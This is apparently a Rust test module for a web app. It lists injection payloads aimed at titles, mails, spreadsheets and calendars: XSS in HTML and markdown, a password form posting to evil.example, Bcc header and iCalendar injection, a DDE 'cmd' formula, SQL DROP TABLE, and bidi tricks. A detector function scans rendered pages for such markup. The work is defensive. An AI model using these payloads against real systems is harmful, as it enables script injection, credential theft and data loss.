//! Texts that try to be more than texts: in a page, a mail, a table, a calendar. Every door for text is tried with them.

use crate::Answer;

/// Tricks that fit into a title.
pub const TRICKS: &[&str] = &[
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](https://evil.example \"onclick=alert(1)\")",
    "<javascript:alert(1)>",
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<iframe src=https://evil.example></iframe>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=password></form>",
    "<!-- --><script>alert(1)</script>",
    "</article></section><h1>Il Comune avvisa</h1>",
    "![x](https://evil.example/pixel.gif)",
    "[![x](https://evil.example/p.gif)](javascript:alert(1))",
    "[a]: javascript:alert(1)\n\n[a]",
    "# Il Comune avvisa",
    "Il Comune avvisa\n===",
    "|a|b|\n|-|-|\n|<b>|x|",
    "`<script>alert(1)</script>` @anna `@anna`",
    "```\n@anna <script>\n```",
    "@anna\" onmouseover=\"alert(1)",
    "@<script>alert(1)</script>",
    "<a class=\"a-mention\" href=\"/comments/1\">@comune</a>",
    "{{ page }} {% include 'x' %} ${7*7} #{7*7}",
    "exe\u{202E}gpj.\u{2066}fine\u{2069}",
    "pa\u{200B}ro\u{FEFF}la",
    "\u{0}\u{7}\u{1b}[31mrosso",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    // What a mail, a table or a calendar would take for more than a text.
    "Oggi\r\nBcc: evil@evil.example\r\n\r\n<script>alert(1)</script>",
    "Oggi\nEND:VEVENT\nBEGIN:VEVENT\nATTENDEE:mailto:evil@evil.example",
    "Oggi;ATTENDEE=evil@evil.example,x:y\\nSUMMARY:z",
    "=HYPERLINK(\"https://evil.example\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+39;\"=1+1\"",
    "\u{ff1d}1+1",
    "x\" onfocus=\"alert(1)\" autofocus=\"",
    "' OR '1'='1'; DROP TABLE people; --",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
];

/// Those that need room.
pub fn long_tricks() -> Vec<String> {
    vec!["> ".repeat(480), "*a **b ".repeat(140), "[".repeat(990), format!("z{}", "\u{301}".repeat(900))]
}

/// A tag of a page: its name in small letters, and its attributes with their values as they stand.
struct Tag {
    name: String,
    attributes: Vec<(String, String)>,
}

/// What a browser would take for more than text on a page of ours; empty when nothing.
pub fn harm(page: &Answer) -> Vec<String> {
    let html = page.text();
    let mut harm = Vec::new();
    for tag in tags(&html) {
        let value = |name: &str| tag.attributes.iter().find(|(n, _)| n == name).map(|(_, v)| v.as_str());
        if ["iframe", "object", "embed", "base", "math", "style"].contains(&tag.name.as_str()) {
            harm.push(format!("<{}>", tag.name));
        }
        if tag.name == "script" && !value("src").is_some_and(|src| src.starts_with("/assets/")) {
            harm.push("a script in the page".to_owned());
        }
        for (name, value) in &tag.attributes {
            if name.starts_with("on") || name == "style" {
                harm.push(format!("<{} {name}={value}>", tag.name));
            }
            let leads = ["href", "src", "action", "formaction", "srcdoc", "data"].contains(&name.as_str());
            let value = value.trim().to_lowercase();
            let elsewhere =
                ["javascript:", "vbscript:", "data:", "//", "/\\"].iter().any(|p| value.starts_with(p));
            if leads && elsewhere {
                harm.push(format!("<{} {name}={value}>", tag.name));
            }
            if (name == "src" || name == "action") && value.contains("evil.example") {
                harm.push(format!("<{} {name}={value}>", tag.name));
            }
        }
    }
    for sign in ['\u{202e}', '\u{2066}', '\u{200b}', '\u{0}', '\u{1b}'] {
        if html.contains(sign) {
            harm.push(format!("the sign {}", sign.escape_unicode()));
        }
    }
    harm
}

fn tags(html: &str) -> Vec<Tag> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some((_, from)) = rest.split_once('<') {
        let name: String = from.chars().take_while(char::is_ascii_alphanumeric).collect();
        rest = &from[name.len()..];
        if name.is_empty() {
            continue;
        }
        let mut attributes = Vec::new();
        loop {
            rest = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '/');
            if rest.is_empty() || rest.starts_with('>') {
                break;
            }
            let first = rest.chars().next().map_or(1, char::len_utf8);
            let end = rest.find(|c: char| c.is_whitespace() || "=>/".contains(c)).unwrap_or(rest.len());
            let (key, after) = rest.split_at(end.max(first));
            let (value, after) = valued(after);
            attributes.push((key.to_lowercase(), value));
            rest = after;
        }
        tags.push(Tag { name: name.to_lowercase(), attributes });
    }
    tags
}

/// The value behind the name of an attribute, in whatever quotes, and what follows.
fn valued(after: &str) -> (String, &str) {
    let Some(from) = after.trim_start().strip_prefix('=').map(str::trim_start) else {
        return (String::new(), after);
    };
    for quote in ['"', '\''] {
        if let Some((value, rest)) = from.strip_prefix(quote).and_then(|from| from.split_once(quote)) {
            return (value.replace("&#x2f;", "/").replace("&amp;", "&"), rest);
        }
    }
    let end = from.find(|c: char| c.is_whitespace() || c == '>').unwrap_or(from.len());
    (from[..end].to_owned(), &from[end..])
}
